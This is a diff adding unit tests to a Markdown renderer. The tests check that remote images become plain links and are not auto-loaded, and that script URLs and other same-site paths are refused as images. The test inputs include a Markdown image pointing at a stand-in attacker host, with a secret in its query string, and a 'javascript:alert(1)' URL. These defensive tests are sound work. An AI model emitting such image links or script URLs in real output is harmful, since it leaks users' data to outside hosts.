@@ -25,3 +25,25 @@ describe('renderMarkdown', () => {
     expect(renderMarkdown(text, false)).toBe(first);
   });
 });
+
+describe('images in Markdown', () => {
+  it('never loads a remote image by itself: it becomes a link naming its host', () => {
+    const html = renderToStaticMarkup(
+      renderMarkdown('![secret](https://evil.example/x.png?d=SECRET)', false),
+    );
+    expect(html).not.toContain('<img');
+    expect(html).toContain('href="https://evil.example/x.png?d=SECRET"');
+    expect(html).toContain('rel="noopener noreferrer nofollow"');
+  });
+
+  it("shows the user's own signed file links inline", () => {
+    const html = renderToStaticMarkup(renderMarkdown('![chart](/api/files/content/abc-123?sig=xyz)', false));
+    expect(html).toContain('<img src="/api/files/content/abc-123?sig=xyz"');
+  });
+
+  it('refuses other same-site paths and script URLs as images', () => {
+    for (const src of ['/api/user', 'javascript:alert(1)', '//evil.example/x.png']) {
+      expect(renderToStaticMarkup(renderMarkdown(`![x](${src})`, false))).not.toContain('<img');
+    }
+  });
+});
